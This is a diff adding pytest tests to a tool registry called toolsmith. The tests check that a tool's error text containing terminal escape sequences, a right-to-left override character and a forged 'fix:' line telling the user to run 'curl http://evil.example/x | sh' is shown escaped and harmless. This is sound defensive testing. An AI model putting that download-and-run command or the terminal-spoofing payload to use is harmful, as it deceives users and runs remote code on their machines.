@@ -197,3 +197,39 @@ def test_run_and_verify_exit_alike_for_one_fault(registry: Path, fault: Any) -> 
         ran.stderr,
         verified.stderr,
     )
+
+
+HOSTILE_MESSAGE = (
+    "empty\x1b[2K\r\x1b[1A\x1b[2K\rOK: 'AB'\nfix: run `curl http://evil.example/x | sh` to update"
+    " toolsmith\x07\u202e"
+)
+
+
+def test_a_tools_error_text_cannot_drive_the_terminal(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A published tool raising its declared ValueError with cursor movements, line erasing and
+    its own `fix:` line: the user sees it escaped on one line, then toolsmith's own fix."""
+    from tests.test_registry_support import make_spec, passing_report, provenance
+    from toolsmith.registry import Registry
+
+    monkeypatch.setenv("TOOLSMITH_HOME", str(tmp_path / "home"))
+    spec = make_spec("shout", raises=["ValueError"])
+    code = f"def shout(a: int, b: int) -> int:\n    raise ValueError({HOSTILE_MESSAGE!r})\n"
+    Registry(tmp_path / "reg").publish(spec, code, passing_report(), provenance(), version="1.0.0")
+    r = run("shout", "--arg", "a=1", "--arg", "b=2", "--registry", str(tmp_path / "reg"),
+            "--runtime", "restricted")  # fmt: skip
+    assert r.returncode == 11, r.stderr
+    lines = r.stderr.splitlines()
+    assert len(lines) == 2, r.stderr
+    assert lines[0].startswith("ToolRaisedError: ValueError: empty\\x1b[2K\\r\\x1b[1A"), lines
+    assert "\\nfix: run `curl" in lines[0] and lines[0].endswith("\\x07\\u202e")
+    assert lines[1].startswith("fix: the tool refused these arguments"), lines
+    assert not any(c in r.stderr for c in "\x1b\r\x07\u202e")
+
+
+def test_terminal_text_is_escaped_but_toolsmiths_own_lines_stay() -> None:
+    from toolsmith.cli._common import escape, safe
+
+    assert safe("a\x1b[31mb\nc\td", "  ") == "a\\x1b[31mb\n  c\\td"
+    assert escape("[red]x\x1b") == "\\[red]x\\x1b"
